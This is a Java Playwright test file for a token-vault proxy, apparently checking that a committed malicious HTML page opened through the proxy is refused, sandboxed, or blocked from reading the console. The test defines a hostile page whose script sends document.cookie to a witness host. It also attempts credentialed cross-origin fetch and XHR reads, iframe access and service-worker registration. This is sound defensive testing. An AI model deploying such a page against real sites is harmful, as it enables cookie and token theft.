package dev.tokenward.vault;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Browser.NewContextOptions;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Response;
import dev.tokenward.testkit.http.RecordedRequest;
import java.net.URI;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * A page that somebody committed, opened through the proxy in a real browser that has a token for
 * it and a consent under way (S18).
 */
@WithChromium
class EvilPageTest {

  private static final String ITEM =
      "/proxy/boards/acme/web/_apis/git/repositories/site/items?path=/";

  private static final String EVIL =
      """
      <!DOCTYPE html>
      <title>evil</title>
      <img src="WITNESS/ran?image">
      <iframe id="console" src="CONSOLE"></iframe>
      <form method="get" action="WITNESS/ran" target="form"><input name="form"></form>
      <iframe name="form"></iframe>
      <script>
      const told = [];
      const tell = what => told.push(new Promise(done => {
        const image = new Image();
        image.onload = image.onerror = done;
        image.src = 'WITNESS/ran?' + encodeURIComponent(what);
      }));
      tell('script');
      tell('cookie ' + document.cookie);
      const tries = ['cors', 'no-cors'].map(mode => fetch('CONSOLE', {mode, credentials: 'include'})
        .then(r => r.text())
        .then(t => tell(mode + ' read ' + t), () => tell(mode + ' unread')));
      tries.push(new Promise(done => {
        const xhr = new XMLHttpRequest();
        xhr.onload = () => { tell('xhr read ' + xhr.responseText); done(); };
        xhr.onerror = () => { tell('xhr unread'); done(); };
        xhr.open('GET', 'CONSOLE');
        xhr.withCredentials = true;
        xhr.send();
      }));
      tries.push(new Promise(done => addEventListener('load', () => {
        tell('frame ' + document.getElementById('console').contentDocument);
        done();
      })));
      tries.push(navigator.serviceWorker.register('WORKER')
        .then(() => tell('worker'), e => tell('no worker ' + e)));
      document.forms[0].submit();
      window.open('WITNESS/ran?window');
      alert('evil');
      Promise.all(tries).then(() => Promise.all(told)).then(() => { document.title = 'all told'; });
      </script>
      """;

  @RegisterExtension private static final Chromium CHROMIUM = new Chromium();

  @TempDir private Path folder;
  private final List<String> dialogs = new ArrayList<>();
  private final List<String> requests = new ArrayList<>();
  private final List<String> messages = new ArrayList<>();

  @SuppressWarnings("NullAway.Init") // start() sets it
  private Delegated it;

  @SuppressWarnings("NullAway.Init") // start() sets it
  private Witness witness;

  @SuppressWarnings("NullAway.Init") // start() sets it
  private Page page;

  @BeforeEach
  void start() {
    it = new Delegated(folder, EvilPageTest::onOneSite);
    it.authorize(Delegated.ADA);
    it.team.policy("pat", "ci", "boards", List.of("virtual-pat"));
    witness = new Witness(it.vault().url());
    it.emulator
        .devOps()
        .organization("acme", "contoso.example")
        .project("web")
        .repository("site")
        .commit(
            Map.of(
                "evil.html",
                evil(ITEM + "evil.js"),
                "evil.js",
                "new Image().src = '" + witness.url() + "/ran?classic';"),
            "Add pages");
    witness.page("/evil.html", evil("/evil.js"));
    witness.page("/evil.js", "");
    page = browser().newPage();
    page.onDialog(
        dialog -> {
          dialogs.add(dialog.message());
          dialog.dismiss();
        });
    page.onConsoleMessage(message -> messages.add(message.text()));
    // A consent is under way in this browser, so there is a cookie to be had.
    page.navigate(it.link().toString());
    assertThat(page.context().cookies()).isNotEmpty();
    page.context().onRequest(request -> requests.add(request.url()));
    // Of what a policy forbids the browser tells, too, though it sends nothing.
    page.context()
        .onRequestFailed(
            request -> {
              if (request.failure().toLowerCase(Locale.ROOT).contains("csp")) {
                requests.remove(request.url());
              }
            });
  }

  /** The console under the host name of the API, where its cookies come along: the worst case. */
  private static String onOneSite(String config) {
    return config.replaceFirst(
        "console: \\{listen: \"([0-9.:]+)\"}", "console: {listen: \"$1\", url: \"http://$1\"}");
  }

  /** One that sends a good token with each request, as after Basic sign-in. */
  private BrowserContext browser() {
    return CHROMIUM.person(
        new NewContextOptions()
            .setExtraHTTPHeaders(Map.of("Authorization", TestVault.basic("any", it.virtualPat()))));
  }

  private String evil(String worker) {
    URI console = it.vault().console();
    return EVIL.replace("WITNESS", witness.url())
        .replace("CONSOLE", console.toString())
        .replace("WORKER", worker);
  }

  @AfterEach
  void stop() {
    page.context().close();
    witness.close();
    it.close();
  }

  /** That the page does all it tries where nothing keeps it from that; not even then it reads. */
  @Test
  void ofItsOwnServer_runs_andReadsNothingOfTheConsole() {
    page.navigate(witness.url() + "/evil.html");
    page.waitForFunction("document.title === 'all told'");
    assertThat(witness.ran())
        .contains("image", "script", "window", "form=", "worker")
        .contains("cookie ", "cors unread", "xhr unread", "no-cors unread", "frame null");
    assertThat(witness.ran()).noneMatch(told -> told.contains(" read "));
    assertThat(dialogs).containsExactly("evil");
    assertThat(requests).anyMatch(url -> url.startsWith(it.vault().console().toString()));
  }

  @Test
  void openedThroughTheProxy_isRefused() {
    Response answer = page.navigate(it.vault().url() + ITEM + "evil.html");
    assertThat(answer.status()).isEqualTo(403);
    assertThat(answer.text()).contains("shows no pages").doesNotContain("script");
    assertThat(items()).isEmpty();
    assertNothingRan();
  }

  @Test
  void openedByABrowserThatDoesNotTellItNavigates_isShownAndRunsNothing() {
    Response answer = page.navigate(witness.url() + ITEM + "evil.html");
    assertThat(answer.status()).isEqualTo(200);
    assertThat(answer.headerValue("content-type")).startsWith("text/html");
    assertThat(page.title()).isEqualTo("evil");
    assertThat(page.evaluate("self.origin")).isEqualTo("null");
    assertThat(messages).anyMatch(text -> text.contains("Blocked script execution"));
    assertNothingRan();
    // Cookies know no ports, so this one comes along; it ends at the vault.
    assertThat(witness.cookies()).anyMatch(cookie -> cookie.contains("tokenward-consent"));
    assertThat(items()).hasSize(1).allMatch(seen -> seen.header("Cookie").isEmpty());
  }

  @Test
  void embeddedByAnotherOrigin_runsNothingAndIsNotRead() {
    String item = it.vault().url() + ITEM;
    witness.page(
        "/embedding.html",
        """
        <!DOCTYPE html>
        <title>embedding</title>
        <iframe src="%1$sevil.html"></iframe>
        <object data="%1$sevil.html" type="text/html"></object>
        <embed src="%1$sevil.html" type="text/html">
        <link rel="stylesheet" href="%1$sevil.html">
        <img src="%1$sevil.html">
        <script src="%1$sevil.html"></script>
        """
            .formatted(item));
    page.navigate(witness.url() + "/embedding.html");
    assertNothingRan();
    assertThat(messages).filteredOn(text -> text.contains("403")).hasSizeGreaterThanOrEqualTo(3);
    // The style sheet, the image and the script are asked for; none of them is what it claims.
    assertThat(items()).hasSize(3).allMatch(seen -> seen.header("Cookie").isEmpty());
    // Not even an opaque answer reaches the page's process (Cross-Origin-Resource-Policy).
    assertThat(fetched(item, "no-cors")).isEqualTo("unread");
    assertThat(fetched(item, "cors")).isEqualTo("unread");
    assertThat(page.evaluate("document.querySelector('iframe').contentDocument")).isNull();
  }

  private Object fetched(String item, String mode) {
    return page.evaluate(
        "mode => fetch('%sevil.html', {mode, credentials: 'include'})".formatted(item)
            + ".then(r => r.text().then(t => `${r.type} '${t}'`), () => 'unread')",
        mode);
  }

  private void assertNothingRan() {
    assertThat(witness.ran()).isEmpty();
    assertThat(dialogs).isEmpty();
    assertThat(requests)
        .noneMatch(url -> url.startsWith(it.vault().console().toString()))
        .noneMatch(url -> url.contains("/ran"));
    assertThat(page.context().pages()).hasSize(1);
  }

  private List<RecordedRequest> items() {
    return it.emulator.requests().stream().filter(seen -> seen.path().endsWith("/items")).toList();
  }
}
